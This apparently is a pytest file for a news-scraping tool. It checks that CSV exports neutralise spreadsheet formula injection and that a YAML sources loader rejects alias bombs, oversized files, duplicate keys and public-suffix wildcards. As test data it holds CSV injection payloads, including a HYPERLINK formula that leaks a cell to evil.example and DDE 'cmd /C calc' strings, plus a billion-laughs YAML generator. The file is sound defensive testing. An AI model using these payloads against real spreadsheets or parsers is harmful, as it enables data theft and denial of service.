"""Hostile input that reaches a spreadsheet or the sources file (issue 19, findings 5 and 6).

CSV injection: a scraped title such as ``=HYPERLINK(...)`` must reach `optally export` and
`optally metrics --format csv` as text a spreadsheet will not evaluate (OWASP "CSV
Injection": a leading single quote, and the cell quoted), while numbers, negative ones
included, stay unquoted numbers.

The sources file: an alias bomb, a huge file, duplicate keys and wildcards over a public
suffix are refused quickly, in one line, before anything starts.
"""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
from datetime import date
from pathlib import Path

import pytest

from app.cli import main
from config.sources import ALIAS_NODE_BUDGET, MAX_SOURCES_BYTES, SourcesError, load_sources
from tasks.export import csv_cell
from tests.test_report import PageSpec, build_warehouse, ids_by_name, seed_page

# ---------------------------------------------------------------------------
# CSV injection

# (title as scraped, the cell a spreadsheet must get). Per OWASP, a cell is a formula when
# it begins with = + - @, a tab or a carriage return; spreadsheets also skip leading
# spaces and quotes before looking, so those count too.
DANGEROUS_TITLES: list[tuple[str, str]] = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+2 arrested", "'+1+2 arrested"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+2 tabbed", "'\t=1+2 tabbed"),
    ("\r=1+2 returned", "'\r=1+2 returned"),
    ("  =1+2 spaced", "'  =1+2 spaced"),
    ('"=1+2";=1+2 quoted', '\'"=1+2";=1+2 quoted'),
]  # fmt: skip
# Ordinary text stays as it is, even with the trigger characters inside or a leading quote.
ORDINARY_TITLES = ["Arrests = 10 in week of action", "'Operation' ends with 12 held", "2024 review"]
NEGATIVE_OPERATION = "Operation Minus"


def _pages() -> list[PageSpec]:
    pages = [seed_page()]
    for i, (title, _) in enumerate(DANGEROUS_TITLES + [(t, t) for t in ORDINARY_TITLES]):
        pages.append(
            PageSpec(
                f"https://news.example/hostile-{i}",
                title,
                date(2020, 1 + i, 3),
                [("operation", "arrests", 10 + i, "exact", f"{10 + i} people were arrested.")],
                name=f"Operation Hostile {i}",
            )
        )
    # 10 arrests but 13 in the breakdown: arrests_outside_breakdown is -3, a number.
    pages.append(
        PageSpec(
            "https://news.example/minus",
            "Ten arrested",
            date(2019, 6, 1),
            [("operation", "arrests", 10, "exact", "10 people were arrested.")],
            name=NEGATIVE_OPERATION,
            breakdown=[("drugs", 13)],
        )
    )
    return pages


def _expected_titles() -> dict[str, str]:
    """Operation name -> the title cell a spreadsheet must be handed."""
    cells = [cell for _, cell in DANGEROUS_TITLES] + ORDINARY_TITLES
    return {f"Operation Hostile {i}": cell for i, cell in enumerate(cells)}


def _read_typed(text: str) -> list[dict[str, str | float]]:
    """Read a CSV whose text cells are quoted: unquoted cells come back as floats, so a
    number that was quoted, or text that was not, shows up as the wrong type."""
    rows = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    header = [str(h) for h in rows[0]]
    return [dict(zip(header, r, strict=True)) for r in rows[1:]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *DANGEROUS_TITLES,
        *[(t, t) for t in ORDINARY_TITLES],
        ("", ""),
        ("-", "'-"),
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
        (None, None),
    ],
)
def test_csv_cell_neutralises_only_formula_text(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_export_csv_neutralises_formula_titles_and_keeps_numbers(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    build_warehouse(db_url, _pages())
    assert main(["export", "--db", db_url, "--format", "csv", "--out", str(tmp_path)]) == 0
    capsys.readouterr()

    summary = _read_typed((tmp_path / "operation_summary.csv").read_bytes().decode("utf-8"))
    titles = {r["name"]: r["title"] for r in summary if str(r["name"]).startswith("Operation H")}
    assert titles == _expected_titles()
    aidant = next(r for r in summary if r["name"] == "Operation Aidant")
    assert (aidant["arrests"], aidant["sources"], aidant["first_published"]) == (
        38.0,
        1.0,
        "2021-11-05",
    )

    metrics = _read_typed((tmp_path / "operation_metrics.csv").read_bytes().decode("utf-8"))
    minus = next(r for r in metrics if r["name"] == NEGATIVE_OPERATION)
    assert minus["arrests_outside_breakdown"] == -3.0  # a float: unquoted, no leading quote

    claims = _read_typed((tmp_path / "figure_claims.csv").read_bytes().decode("utf-8"))
    by_url = {r["url"]: r["article_title"] for r in claims}
    for i, (_, cell) in enumerate(DANGEROUS_TITLES):
        assert by_url[f"https://news.example/hostile-{i}"] == cell


def test_metrics_csv_neutralises_formula_titles_and_keeps_numbers(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    engine = build_warehouse(sqlite_url, _pages())
    ids = ids_by_name(engine)
    capsys.readouterr()
    assert main(["metrics", "--db", sqlite_url, "--format", "csv"]) == 0
    rows = _read_typed(capsys.readouterr().out)

    titles = {r["name"]: r["title"] for r in rows if str(r["name"]).startswith("Operation H")}
    assert titles == _expected_titles()
    minus = next(r for r in rows if r["name"] == NEGATIVE_OPERATION)
    assert (minus["id"], minus["arrests"], minus["arrests_outside_breakdown"]) == (
        float(ids[NEGATIVE_OPERATION]),
        10.0,
        -3.0,
    )
    aidant = next(r for r in rows if r["name"] == "Operation Aidant")
    assert (aidant["published"], aidant["arrests_per_force"], aidant["charged"]) == (
        "2021-11-05",
        2.0,
        "",
    )


# ---------------------------------------------------------------------------
# The sources file

GOOD_ENTRY = (
    "  - name: x\n    kind: urls\n    urls: [https://a.test/x]\n    allowed_hosts: [a.test]\n"
)


def _bomb() -> str:
    """Billion laughs with YAML anchors: 9 levels of 9 aliases, 9**9 strings once expanded."""
    lines = ['x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for name in "bcdefghi":
        lines.append(f"x-{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = name
    return "\n".join(lines) + "\nsources:\n  - name: *i\n" + GOOD_ENTRY.split("\n", 1)[1]


def _write(tmp_path: Path, text: str, name: str = "sources.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _refusal(path: Path) -> str:
    with pytest.raises(SourcesError) as info:
        load_sources(path)
    return str(info.value)


def test_alias_bomb_is_refused_fast_in_bounded_memory(tmp_path: Path) -> None:
    path = _write(tmp_path, _bomb())
    assert len(path.read_bytes()) < 500
    tracemalloc.start()
    started = time.perf_counter()
    try:
        message = _refusal(path)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < 0.5
    assert peak < 5_000_000
    assert message == (
        f"{path}: invalid YAML: aliases expand to more than {ALIAS_NODE_BUDGET} nodes "
        "(an alias bomb?) at line 5, column 10"
    )


def test_alias_bomb_on_the_command_line_is_one_line_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, _bomb())
    started = time.perf_counter()
    code = main(["run", "--sources", str(path), "--db", f"sqlite:///{tmp_path}/w.db"])
    assert time.perf_counter() - started < 20  # the API boot included; the bomb took 151 s
    _, err = capsys.readouterr()
    assert (code, err) == (
        2,
        f"optally: error: {path}: invalid YAML: aliases expand to more than "
        f"{ALIAS_NODE_BUDGET} nodes (an alias bomb?) at line 5, column 10\n",
    )


def test_recursive_alias_is_refused(tmp_path: Path) -> None:
    path = _write(tmp_path, "x-loop: &loop [a, *loop]\nsources:\n" + GOOD_ENTRY)
    assert _refusal(path) == (
        f"{path}: invalid YAML: alias *loop is used inside the node it names "
        "(a recursive alias) at line 1, column 19"
    )


def test_the_shipped_sources_file_keeps_its_aliases() -> None:
    from config.settings import DEFAULT_SOURCES_FILE

    by_name = {s.name: s for s in load_sources(DEFAULT_SOURCES_FILE)}
    assert by_name["bbc-uk-news"].keywords == by_name["govuk-nca-news"].keywords
    assert "traffick*" in (by_name["bbc-uk-news"].keywords or [])


def test_aliases_within_the_budget_load(tmp_path: Path) -> None:
    text = "x-kw: &kw [traffick*, modern slavery]\nsources:\n" + "".join(
        f"  - {{name: s{i}, kind: urls, urls: ['https://a.test/{i}'],"
        " allowed_hosts: [a.test], keywords: *kw}\n"
        for i in range(50)
    )
    sources = load_sources(_write(tmp_path, text))
    assert [s.keywords for s in sources] == [["traffick*", "modern slavery"]] * 50


def test_a_50_mb_sources_file_is_refused_quickly(tmp_path: Path) -> None:
    path = tmp_path / "huge.yaml"
    with path.open("w", encoding="utf-8") as fh:
        fh.write("sources:\n" + GOOD_ENTRY)
        fh.write(("#" + "x" * 1022 + "\n") * (50 * 1024))
    size = path.stat().st_size
    assert size == 50 * 1024 * 1024 + len("sources:\n" + GOOD_ENTRY)
    started = time.perf_counter()
    message = _refusal(path)
    assert time.perf_counter() - started < 0.5
    assert message == (
        f"{path}: file is too large ({size} bytes; a sources file may be at most "
        f"{MAX_SOURCES_BYTES} bytes, 1 MiB)"
    )


def test_size_limit_is_exactly_one_mib(tmp_path: Path) -> None:
    head = "sources:\n" + GOOD_ENTRY
    at_limit = _write(tmp_path, head + "#" * (MAX_SOURCES_BYTES - len(head) - 1) + "\n", "a.yaml")
    assert at_limit.stat().st_size == MAX_SOURCES_BYTES == 1024 * 1024
    assert [s.name for s in load_sources(at_limit)] == ["x"]
    over = _write(tmp_path, head + "#" * (MAX_SOURCES_BYTES - len(head)) + "\n", "b.yaml")
    assert _refusal(over).startswith(f"{over}: file is too large ({MAX_SOURCES_BYTES + 1} bytes;")


def test_the_same_file_is_parsed_once(tmp_path: Path) -> None:
    path = _write(tmp_path, "sources:\n" + GOOD_ENTRY)
    first = load_sources(path)
    again = load_sources(path)
    assert again == first and again[0] is first[0]  # `optally run` checks, then the flow loads
    path.write_text("sources:\n" + GOOD_ENTRY.replace("name: x", "name: y"), encoding="utf-8")
    assert [s.name for s in load_sources(path)] == ["y"]  # a changed file is read anew


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "sources:\n" + GOOD_ENTRY + "    allow_private_hosts: false\n"
            "    allow_private_hosts: true\n",
            "duplicate key 'allow_private_hosts' (first at line 6) at line 7, column 5",
        ),
        (
            "sources:\n" + GOOD_ENTRY + "sources:\n" + GOOD_ENTRY,
            "duplicate key 'sources' (first at line 1) at line 6, column 1",
        ),
        (
            "sources:\n  - {name: a, name: b, kind: urls, urls: ['https://a.test/x'],"
            " allowed_hosts: [a.test]}\n",
            "duplicate key 'name' (first at line 2) at line 2, column 15",
        ),
    ],
)
def test_duplicate_keys_are_refused(tmp_path: Path, text: str, problem: str) -> None:
    path = _write(tmp_path, text)
    assert _refusal(path) == f"{path}: invalid YAML: {problem}"


def test_a_merge_key_may_be_overridden(tmp_path: Path) -> None:
    text = (
        "x-base: &base {kind: urls, allowed_hosts: [a.test], rate_limit: 2}\n"
        "sources:\n"
        "  - <<: *base\n"
        "    name: x\n"
        "    urls: [https://a.test/x]\n"
        "    rate_limit: 0.5\n"
    )
    [source] = load_sources(_write(tmp_path, text))
    assert (source.kind, source.rate_limit, source.allowed_hosts) == ("urls", 0.5, ["a.test"])


def _hosts_file(tmp_path: Path, host: str, url: str) -> Path:
    return _write(
        tmp_path,
        f"sources:\n  - name: x\n    kind: urls\n    urls: ['{url}']\n"
        f"    allowed_hosts: ['{host}']\n",
    )


@pytest.mark.parametrize(
    ("host", "url", "problem"),
    [
        ("*", "https://www.example.com/x", "allowed_hosts entry '*' allows every host: name a domain, e.g. '*.example.com'"),
        ("*.com", "https://www.example.com/x", "allowed_hosts entry '*.com' is a wildcard over the public suffix 'com': name a domain under it, e.g. '*.example.com'"),
        ("*.co.uk", "https://www.example.co.uk/x", "allowed_hosts entry '*.co.uk' is a wildcard over the public suffix 'co.uk': name a domain under it, e.g. '*.example.co.uk'"),
        ("*.gov.uk", "https://www.gov.uk/x", "allowed_hosts entry '*.gov.uk' is a wildcard over the public suffix 'gov.uk': name a domain under it, e.g. '*.example.gov.uk'"),
        ("*.github.io:443", "https://x.github.io/x", "allowed_hosts entry '*.github.io:443' is a wildcard over the public suffix 'github.io': name a domain under it, e.g. '*.example.github.io'"),
        ("*.0.0.1", "http://127.0.0.1/x", "allowed_hosts entry '*.0.0.1' is a wildcard over an IP address: list the address itself"),
    ],
)  # fmt: skip
def test_wildcards_over_a_public_suffix_are_refused(
    tmp_path: Path, host: str, url: str, problem: str
) -> None:
    path = _hosts_file(tmp_path, host, url)
    assert _refusal(path) == f"{path}: sources[0] 'x': {problem}"


@pytest.mark.parametrize(
    ("host", "url"),
    [
        ("*.example.co.uk", "https://www.example.co.uk/x"),
        ("*.bbci.co.uk", "https://feeds.bbci.co.uk/x"),
        ("*.example.com:8443", "https://a.example.com:8443/x"),
        ("*.mirror.test", "http://www.mirror.test/x"),
    ],
)
def test_wildcards_under_a_named_domain_load(tmp_path: Path, host: str, url: str) -> None:
    [source] = load_sources(_hosts_file(tmp_path, host, url))
    assert source.allowed_hosts == [host]


@pytest.mark.parametrize(
    ("key", "value", "echoed"),
    [
        ("kind", "k" * 100_000, "unknown kind '" + "k" * 79 + "…'"),
        ("name", "n" * 100_000, "name must be at most 100 characters, not 100000"),
        ("allowed_hosts", ["h" * 100_000 + ".*"], "allowed_hosts entry '" + "h" * 79 + "…'"),
        ("rate_limit", "r" * 100_000, "rate_limit: Input should be a valid number"),
    ],
)
def test_error_messages_never_echo_an_unbounded_value(
    tmp_path: Path, key: str, value: object, echoed: str
) -> None:
    import yaml

    entry = {"name": "x", "kind": "urls", "urls": ["https://a.test/x"], "allowed_hosts": ["a.test"]}
    entry[key] = value
    path = _write(tmp_path, yaml.safe_dump({"sources": [entry]}, width=10**7))
    message = _refusal(path)
    assert echoed in message
    assert len(message) < len(str(path)) + 300 and "\n" not in message


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "sources:\n  - {name: x, kind: urls, urls: ['https://a.test/x'],"
            " allowed_hosts: [a.test], profile: [nca]}\n",
            "sources[0] 'x': unknown profile '['nca']' (expected one of nca, europol, govuk, generic)",
        ),
        ("sources: " + "[" * 100_000 + "]" * 100_000 + "\n", "invalid YAML: nested too deeply"),
        ("x-when: 2024-13-01\nsources: []\n", "invalid YAML: month must be in 1..12"),
        (
            "sources:\n  - {name: x, kind: urls, urls: ['https://a.test/x'],"
            " allowed_hosts: [a.test], keywords: [[1], [2], [3], [4], [5]]}\n",
            "sources[0] 'x': keywords.0: Input should be a valid string (got [1]); keywords.1:"
            " Input should be a valid string (got [2]); keywords.2: Input should be a valid"
            " string (got [3]); and 2 more",
        ),
    ],
)
def test_odd_shapes_are_one_line_errors(tmp_path: Path, text: str, problem: str) -> None:
    path = _write(tmp_path, text)
    assert _refusal(path) == f"{path}: {problem}"
